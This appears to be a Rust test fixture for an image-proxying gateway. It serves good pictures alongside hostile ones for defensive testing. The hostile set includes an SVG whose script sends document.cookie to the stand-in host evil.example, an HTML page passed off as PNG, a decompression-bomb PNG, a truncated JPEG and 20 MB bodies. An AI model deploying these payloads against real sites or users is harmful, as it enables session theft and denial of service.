//! A fixture picture host on 127.0.0.1: good pictures (a JPEG photo carrying EXIF and a
//! comment, a PNG with transparency, a GIF) and hostile ones (an SVG with script, a PNG
//! declaring 100,000 × 100,000 pixels, a JPEG cut off half way, HTML served as image/png,
//! 20 MB bodies, a redirect to a host no engine declares). Every request is counted by path.
//! The engines' own thumbnail paths (rebased here) answer with photos of the sizes those
//! engines really serve (`engine_thumbnail`), so the picture budgets are measured on realistic
//! bytes (`benches/pictures.sh`).

use std::collections::BTreeMap;
use std::io::Cursor;
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use actix_web::{web, App, HttpRequest, HttpResponse, HttpServer};

/// Text hidden in the photo's metadata: never in what the gateway serves.
pub const SECRET_IN_METADATA: &str = "kidsearch-secret-location";

pub struct PictureHost {
    pub port: u16,
    state: Arc<PictureState>,
}

struct PictureState {
    port: u16,
    requests: Mutex<BTreeMap<String, usize>>,
}

impl PictureHost {
    pub fn start() -> PictureHost {
        big_jpeg();
        engine_thumbnail("/th");
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind picture host");
        let port = listener.local_addr().expect("addr").port();
        let state = Arc::new(PictureState { port, requests: Mutex::default() });
        let data = web::Data::from(state.clone());
        let server = HttpServer::new(move || App::new().app_data(data.clone()).default_service(web::to(answer)))
            .workers(1)
            .disable_signals()
            .listen(listener)
            .expect("listen")
            .run();
        tokio::spawn(server);
        PictureHost { port, state }
    }

    pub fn base_url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// Requests received for `path` (e.g. "/photo.jpg").
    pub fn requests(&self, path: &str) -> usize {
        self.state.requests.lock().expect("lock").get(path).copied().unwrap_or(0)
    }

    pub fn total_requests(&self) -> usize {
        self.state.requests.lock().expect("lock").values().sum()
    }
}

/// An 800 × 600 photo-like JPEG (gradients and texture) with an EXIF segment and a comment;
/// made once per test binary (the fixture answers must not spend the gateway's time limit).
pub fn photo_jpeg() -> Vec<u8> {
    static PHOTO: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    PHOTO.get_or_init(make_photo_jpeg).clone()
}

/// The photo padded to 20 MB, made once.
fn big_jpeg() -> web::Bytes {
    static BIG: std::sync::OnceLock<web::Bytes> = std::sync::OnceLock::new();
    BIG.get_or_init(|| {
        let mut body = photo_jpeg();
        body.resize(TWENTY_MB, 0);
        web::Bytes::from(body)
    })
    .clone()
}

fn make_photo_jpeg() -> Vec<u8> {
    let img = image::RgbImage::from_fn(800, 600, |x, y| image::Rgb([(x * 255 / 800) as u8, (y * 255 / 600) as u8, ((x * y) % 251) as u8]));
    let mut plain = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut plain, 85).encode_image(&img).expect("encode photo");
    // After SOI: APP1 "Exif" (a big-endian TIFF header with no entries, then the secret) and
    // a COM segment, as a camera or phone would leave them.
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08\0\0".to_vec();
    exif.extend_from_slice(SECRET_IN_METADATA.as_bytes());
    let mut out = plain[..2].to_vec();
    for (marker, payload) in [(0xE1u8, exif), (0xFE, format!("comment {SECRET_IN_METADATA}").into_bytes())] {
        out.extend_from_slice(&[0xFF, marker]);
        out.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        out.extend_from_slice(&payload);
    }
    out.extend_from_slice(&plain[2..]);
    out
}

/// What each engine's thumbnail host really serves, as (width, height, JPEG quality): Bing's
/// `th?id=…&w=192&h=192&c=7` crops, Brave's `rs:fit:200:200` proxy, Simple English Wikipedia's
/// 320 px page image, Programmable Search's `encrypted-tbn` squares.
pub const ENGINE_THUMBNAILS: [(&str, u32, u32, u8); 4] =
    [("bing", 192, 192, 80), ("brave", 200, 150, 80), ("wikipedia", 320, 213, 85), ("gstatic", 225, 225, 75)];

/// The photo an engine's thumbnail path answers with, if `path` is one (else None: the 800 ×
/// 600 photo with metadata answers). Made once, all kinds together, when the host starts (an
/// answer must not spend the gateway's time limit making them).
pub fn engine_thumbnail(path: &str) -> Option<Vec<u8>> {
    let kind = if path.starts_with("/th") {
        "bing"
    } else if path.contains("/rs:fit:") {
        "brave"
    } else if path.contains("/thumb/") && path.contains("px-") {
        "wikipedia"
    } else if path == "/images" {
        "gstatic"
    } else {
        return None;
    };
    static MADE: std::sync::OnceLock<Vec<(&'static str, Vec<u8>)>> = std::sync::OnceLock::new();
    let made = MADE.get_or_init(|| ENGINE_THUMBNAILS.iter().enumerate().map(|(i, (k, w, h, q))| (*k, photo(*w, *h, i as u32 + 1, *q))).collect());
    made.iter().find(|(k, _)| *k == kind).map(|(_, bytes)| bytes.clone())
}

/// A photo-like JPEG: a sky-to-ground gradient, a few soft shapes and fine grain, so it
/// compresses as a photo does (a flat test card would be a tenth of the bytes). The grain is
/// ±8 levels per pixel: a thumbnail host serves a downscaled photo already JPEG-compressed,
/// which keeps little of a camera's pixel noise; ±20 (tried first) is noise at full size and
/// made each re-encoded thumbnail ~10 KB.
pub fn photo(width: u32, height: u32, seed: u32, quality: u8) -> Vec<u8> {
    let grain = |x: u32, y: u32| {
        let mut n = x.wrapping_mul(374_761_393) ^ y.wrapping_mul(668_265_263) ^ seed.wrapping_mul(2_654_435_761);
        n = (n ^ (n >> 13)).wrapping_mul(1_274_126_177);
        ((n >> 24) as i32 % 17) - 8
    };
    let img = image::RgbImage::from_fn(width, height, |x, y| {
        let (fx, fy) = (x as f32 / width as f32, y as f32 / height as f32);
        let hill = ((fx * 6.0 + seed as f32).sin() * 0.1 + 0.55 - fy).clamp(-0.2, 0.2) * 2.5;
        let sun = (1.0 - ((fx - 0.7).powi(2) + (fy - 0.25).powi(2)).sqrt() * 4.0).max(0.0);
        let base = if hill > 0.0 { [90.0 + 60.0 * fy, 110.0 - 40.0 * fx, 60.0] } else { [120.0 + 80.0 * sun, 160.0 + 60.0 * sun, 230.0 - 60.0 * fy] };
        let g = grain(x, y) as f32;
        image::Rgb(base.map(|c| (c + g).clamp(0.0, 255.0) as u8))
    });
    let mut out = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut out, quality).encode_image(&img).expect("encode photo");
    out
}

/// A 400 × 300 drawing with a transparent background.
pub fn drawing_png() -> Vec<u8> {
    let img = image::RgbaImage::from_fn(400, 300, |x, y| {
        let inside = (x as i32 - 200).pow(2) + (y as i32 - 150).pow(2) < 100 * 100;
        if inside {
            image::Rgba([220, 60, 30, 255])
        } else {
            image::Rgba([0, 0, 0, 0])
        }
    });
    let mut out = Vec::new();
    img.write_to(&mut Cursor::new(&mut out), image::ImageFormat::Png).expect("encode png");
    out
}

pub fn small_gif() -> Vec<u8> {
    let img = image::RgbaImage::from_fn(120, 90, |x, _| image::Rgba([0, (x * 2) as u8, 200, 255]));
    let mut out = Vec::new();
    image::DynamicImage::ImageRgba8(img).write_to(&mut Cursor::new(&mut out), image::ImageFormat::Gif).expect("encode gif");
    out
}

/// A valid PNG header declaring 100,000 × 100,000 RGBA pixels (40 GB decoded) and a few
/// bytes of data: a decompression bomb's shape.
pub fn huge_png() -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
    chunk(&mut out, b"IEND", &[]);
    out
}

fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    out.extend_from_slice(&crc.sum().to_be_bytes());
}

pub const SVG_WITH_SCRIPT: &str = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><script>fetch('https://evil.example/?c='+document.cookie)</script><circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>\n";
const HTML_PAGE: &str = "<!DOCTYPE html><html><head><title>Not a picture</title></head><body><script>alert(1)</script></body></html>";
const TWENTY_MB: usize = 20 * 1024 * 1024;

async fn answer(req: HttpRequest, state: web::Data<PictureState>) -> HttpResponse {
    let path = req.path().to_string();
    *state.requests.lock().expect("lock").entry(path.clone()).or_default() += 1;
    let image = |content_type: &str, body: Vec<u8>| HttpResponse::Ok().content_type(content_type.to_string()).body(body);
    match path.as_str() {
        "/drawing.png" => image("image/png", drawing_png()),
        "/small.gif" => image("image/gif", small_gif()),
        "/script.svg" => image("image/svg+xml", SVG_WITH_SCRIPT.as_bytes().to_vec()),
        // Claims to be a JPEG; is an SVG.
        "/svg-as.jpg" => image("image/jpeg", SVG_WITH_SCRIPT.as_bytes().to_vec()),
        "/huge.png" => image("image/png", huge_png()),
        "/truncated.jpg" => {
            let photo = photo_jpeg();
            image("image/jpeg", photo[..photo.len() / 2].to_vec())
        }
        "/html.png" => image("image/png", HTML_PAGE.as_bytes().to_vec()),
        // 20 MB declared up front…
        "/big.jpg" => HttpResponse::Ok().content_type("image/jpeg").body(big_jpeg()),
        // …and 20 MB sent in chunks with no declared length.
        "/big-chunked.jpg" => {
            let head = photo_jpeg();
            let chunks = std::iter::once(head).chain(std::iter::repeat_n(vec![0u8; 64 * 1024], TWENTY_MB / (64 * 1024)));
            HttpResponse::Ok().content_type("image/jpeg").streaming(futures_util::stream::iter(chunks.map(|c| Ok::<_, std::io::Error>(web::Bytes::from(c)))))
        }
        "/redirect.jpg" => HttpResponse::Found().insert_header(("Location", format!("http://localhost:{}/photo.jpg", state.port))).finish(),
        "/redirect-here.jpg" => HttpResponse::Found().insert_header(("Location", "/photo.jpg")).finish(),
        "/missing.jpg" => HttpResponse::NotFound().body("no such picture"),
        // The engines' own thumbnail paths (rebased here) are photos of their real sizes;
        // every other path is the 800 × 600 photo.
        other => image("image/jpeg", engine_thumbnail(other).unwrap_or_else(photo_jpeg)),
    }
}
